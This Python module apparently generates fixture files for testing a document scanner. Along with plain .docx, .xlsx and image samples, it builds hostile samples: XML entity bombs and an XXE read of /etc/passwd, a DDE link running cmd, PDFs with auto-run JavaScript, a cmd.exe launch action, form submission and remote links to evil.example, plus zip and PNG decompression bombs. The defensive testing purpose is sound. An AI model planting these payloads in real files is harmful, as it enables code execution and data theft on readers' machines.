"""Real files for the tests, made on the spot: .docx, .xlsx, pictures of Chinese text, hostile packages."""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

from docx import Document
from PIL import Image, ImageDraw, ImageFont

CJK_FONTS = [
    Path("/usr/share/fonts/opentype/noto/NotoSansCJK-Regular.ttc"),
    Path("/usr/share/fonts/noto-cjk/NotoSansCJK-Regular.ttc"),
    Path("/usr/share/fonts/opentype/noto/NotoSerifCJK-Regular.ttc"),
]


def cjk_font(size: int) -> ImageFont.FreeTypeFont:
    for path in CJK_FONTS:
        if path.exists():
            return ImageFont.truetype(str(path), size)
    raise RuntimeError("需要中文字体: apt-get install fonts-noto-cjk")


def docx_bytes(document: Document) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def png(width: int = 40, height: int = 20, colour: str = "blue", fmt: str = "PNG", **save) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), colour).save(out, fmt, **save)
    return out.getvalue()


def jpeg_with_gps() -> bytes:
    """A JPEG carrying a camera model and a GPS position in its EXIF, as phone photos do."""
    image = Image.new("RGB", (64, 48), "green")
    exif = image.getexif()
    exif[0x010F] = "CanonEOS-Test-Camera"
    exif[0x0110] = "EOS 5D Mark IV"
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"
    gps[2] = (39.0, 54.0, 27.0)
    gps[3] = "E"
    gps[4] = (116.0, 23.0, 17.0)
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif.tobytes())
    return out.getvalue()


def text_image(lines: list[str], *, font_size: int = 32, width: int = 900, line_height: int = 64, fmt: str = "PNG") -> bytes:
    """Black Chinese text on white, one line per entry, as a scanned 公示 table looks to OCR."""
    height = line_height * (len(lines) + 1)
    image = Image.new("RGB", (width, height), "white")
    draw = ImageDraw.Draw(image)
    font = cjk_font(font_size)
    for i, line in enumerate(lines):
        draw.text((40, line_height // 2 + i * line_height), line, fill="black", font=font)
    out = io.BytesIO()
    image.save(out, fmt)
    return out.getvalue()


def zip_with(data: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None) -> bytes:
    """A copy of a zip package with members replaced or added (deflated)."""
    replace = replace or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, replace.get(info.filename, source.read(info)))
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def forge_central_directory(data: bytes, member: str, *, file_size: int | None = None, flag_bits: int | None = None) -> bytes:
    """Rewrite a member's central-directory entry to declare another size or flags, as a hand-made bomb does."""
    buf = bytearray(data)
    target = member.encode()
    pos = buf.find(b"PK\x01\x02")
    while pos != -1:
        name_len = struct.unpack_from("<H", buf, pos + 28)[0]
        name = bytes(buf[pos + 46 : pos + 46 + name_len])
        if name == target:
            if flag_bits is not None:
                struct.pack_into("<H", buf, pos + 8, flag_bits)
            if file_size is not None:
                struct.pack_into("<I", buf, pos + 24, file_size)
            return bytes(buf)
        pos = buf.find(b"PK\x01\x02", pos + 4)
    raise KeyError(member)


def ole_file(*, encrypted: bool) -> bytes:
    """The head of an OLE compound file (legacy .doc/.xls, or an encrypted .docx), enough to be recognised."""
    body = b"\x00" * 512
    if encrypted:
        body += "EncryptionInfo".encode("utf-16-le") + b"\x00" * 16 + "EncryptedPackage".encode("utf-16-le")
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + body


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"""


def png_declaring(width: int, height: int) -> bytes:
    """A tiny PNG whose header declares width×height: a decompression bomb as far as any decoder can tell."""
    import zlib

    def chunk(kind: bytes, payload: bytes) -> bytes:
        return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b"")


def pdf_of_images(images: list[bytes]) -> bytes:
    """A PDF with one page per picture and no text layer, as a scanner makes."""
    pages = [Image.open(io.BytesIO(data)).convert("RGB") for data in images]
    out = io.BytesIO()
    pages[0].save(out, "PDF", save_all=True, append_images=pages[1:], resolution=96)
    return out.getvalue()


def animated_gif(frames: int = 3) -> bytes:
    colours = ["red", "green", "blue", "yellow"]
    images = [Image.new("RGB", (30, 20), colours[i % 4]) for i in range(frames)]
    out = io.BytesIO()
    images[0].save(out, "GIF", save_all=True, append_images=images[1:], duration=200, loop=0, comment=b"made by a camera")
    return out.getvalue()


def jpeg_rotated() -> bytes:
    """A phone photo stored landscape (60×40) with EXIF orientation 6: it is shown portrait."""
    image = Image.new("RGB", (60, 40), "white")
    exif = image.getexif()
    exif[0x0112] = 6
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif.tobytes())
    return out.getvalue()


def xlsx_bytes(rows_by_sheet: dict[str, list[list]]) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    book.remove(book.active)
    for title, rows in rows_by_sheet.items():
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


# ---------------------------------------------------------------------------------------------
# Hostile files: what opens a connection or runs code when someone opens the file (active_content.py)

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def plain_docx(*paragraphs: str) -> bytes:
    document = Document()
    for text in paragraphs or ("关于做好春耕生产工作的通知",):
        document.add_paragraph(text)
    return docx_bytes(document)


def _add_relationship(data: bytes, rels_part: str, rel_type: str, target: str, *, external: bool = True) -> bytes:
    """The package with one more relationship in `rels_part` (created if the part has none yet)."""
    mode = ' TargetMode="External"' if external else ""
    entry = f'<Relationship Id="rIdHostile" Type="{REL}/{rel_type}" Target="{target}"{mode}/>'
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        names = z.namelist()
        old = z.read(rels_part).decode() if rels_part in names else None
    if old is None:
        rels = f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{entry}</Relationships>'
        return zip_with(data, add={rels_part: rels.encode()})
    return zip_with(data, replace={rels_part: old.replace("</Relationships>", entry + "</Relationships>").encode()})


def docx_with_template(target: str) -> bytes:
    """A .docx whose settings name an attached template at `target` (template injection when it is a URL)."""
    data = plain_docx()
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        settings = z.read("word/settings.xml").decode()
    settings = settings.replace("<w:zoom", '<w:attachedTemplate r:id="rIdHostile"/><w:zoom', 1)
    data = zip_with(data, replace={"word/settings.xml": settings.encode()})
    return _add_relationship(data, "word/_rels/settings.xml.rels", "attachedTemplate", target)


def docx_with_relationship(rel_type: str, target: str, *, external: bool = True) -> bytes:
    """A .docx whose document part has a relationship of `rel_type` to `target` (external by default)."""
    return _add_relationship(plain_docx(), "word/_rels/document.xml.rels", rel_type, target, external=external)


def docx_with_member(name: str, content: bytes) -> bytes:
    """A .docx carrying one more part, e.g. an OLE object under word/embeddings/ or an ActiveX control."""
    return zip_with(plain_docx(), add={name: content})


def docx_with_field(instruction: str, *, simple: bool = False) -> bytes:
    """A .docx with a field in its body: w:fldSimple, or a complex field whose instruction is split over two runs."""
    data = plain_docx()
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        body = z.read("word/document.xml").decode()
    if simple:
        field = f'<w:p><w:fldSimple w:instr={quoteattr(instruction)}><w:r><w:t>结果</w:t></w:r></w:fldSimple></w:p>'
    else:
        half = len(instruction) // 2
        field = (
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve">{escape(instruction[:half])}</w:instrText></w:r>'
            f'<w:r><w:instrText xml:space="preserve">{escape(instruction[half:])}</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>结果</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
    body = body.replace("<w:sectPr", field + "<w:sectPr", 1)
    return zip_with(data, replace={"word/document.xml": body.encode()})


def xlsx_with_member(name: str, content: bytes) -> bytes:
    return zip_with(xlsx_bytes({"表": [["姓名"], ["张三"]]}), add={name: content})


EXTERNAL_DDE_LINK = (
    b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>'
)
CONNECTIONS = (
    b'<?xml version="1.0" encoding="UTF-8"?><connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<connection id="1" name="web" type="4" refreshOnLoad="1"><webPr url="http://evil.example/q"/></connection></connections>'
)


def zip_bomb_docx(inflated: int = 300 * 1024 * 1024) -> bytes:
    """A .docx of well under 1 MB whose one extra member inflates to `inflated` bytes of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain_docx())) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, source.read(info))
        with target.open("word/media/image1.png", "w", force_zip64=True) as member:
            block = b"\x00" * (1024 * 1024)
            for _ in range(inflated // len(block)):
                member.write(block)
    return out.getvalue()


def hostile_pdf(add) -> bytes:
    """A one-page PDF changed by `add(pdf, page)` (pikepdf objects), saved with object streams.

    Object streams compress the dictionaries: a scan of the raw bytes for "/JavaScript" would not see them.
    """
    import pikepdf

    pdf = pikepdf.open(io.BytesIO(pdf_of_images([png()])))
    add(pdf, pdf.pages[0])
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    return out.getvalue()


def _js(pdf, code: str = "app.alert(1)"):
    import pikepdf

    return pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(code)))


def _annotation(pdf, page, **entries) -> None:
    import pikepdf

    annotation = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=[0, 0, 50, 50], **entries))
    page.obj["/Annots"] = pikepdf.Array([annotation])


def _pdf_open_action(pdf, page):
    pdf.Root.OpenAction = _js(pdf)


def _pdf_names_javascript(pdf, page):
    import pikepdf

    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), _js(pdf)])))


def _pdf_page_aa(pdf, page):
    import pikepdf

    page.obj["/AA"] = pikepdf.Dictionary(O=_js(pdf))


def _pdf_launch(pdf, page):
    import pikepdf

    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))


def _pdf_embedded_file(pdf, page):
    import pikepdf

    spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="readme.exe")
    pdf.attachments["readme.exe"] = spec


def _pdf_file_annotation(pdf, page):
    import pikepdf

    _annotation(pdf, page, Subtype=pikepdf.Name.FileAttachment, Contents=pikepdf.String("附件"))


def _pdf_rich_media(pdf, page):
    import pikepdf

    _annotation(pdf, page, Subtype=pikepdf.Name.RichMedia)


def _pdf_submit_form(pdf, page):
    import pikepdf

    action = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/collect"))
    _annotation(pdf, page, Subtype=pikepdf.Name.Link, A=action)


def _pdf_xfa(pdf, page):
    import pikepdf

    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.Array([pikepdf.String("template"), pdf.make_stream(b"<xdp/>")]))


def _pdf_goto_remote(pdf, page):
    import pikepdf

    action = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\evil.example\\share\\a.pdf"), D=pikepdf.Array([0, pikepdf.Name.Fit]))
    _annotation(pdf, page, Subtype=pikepdf.Name.Link, A=action)


def _pdf_goto_page(pdf, page):
    import pikepdf

    pdf.Root.OpenAction = pikepdf.Array([page.obj, pikepdf.Name.Fit])


def _pdf_web_link(pdf, page):
    import pikepdf

    _annotation(pdf, page, Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://www.gov.cn/")))


HOSTILE_PDFS = {
    "open_action_javascript": _pdf_open_action,
    "names_javascript": _pdf_names_javascript,
    "page_additional_action": _pdf_page_aa,
    "launch": _pdf_launch,
    "embedded_file": _pdf_embedded_file,
    "file_attachment_annotation": _pdf_file_annotation,
    "rich_media": _pdf_rich_media,
    "submit_form": _pdf_submit_form,
    "xfa": _pdf_xfa,
    "goto_remote": _pdf_goto_remote,
}
BENIGN_PDFS = {"open_at_first_page": _pdf_goto_page, "web_link": _pdf_web_link}

# A hand-written PDF whose action names are hex-escaped (#4A = J): the parser reads "/JavaScript".
OBFUSCATED_JAVASCRIPT_PDF = b"""%PDF-1.4
1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj
4 0 obj << /S /#4Aava#53cript /#4A#53 (app.alert(1)) >> endobj
trailer << /Root 1 0 R /Size 5 >>
%%EOF
"""


def blank_pdf(pages: int = 100) -> bytes:
    """A PDF of `pages` empty A4 pages and no text layer: a few KB, as in the issue's stalled worker."""
    import pikepdf

    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    return out.getvalue()
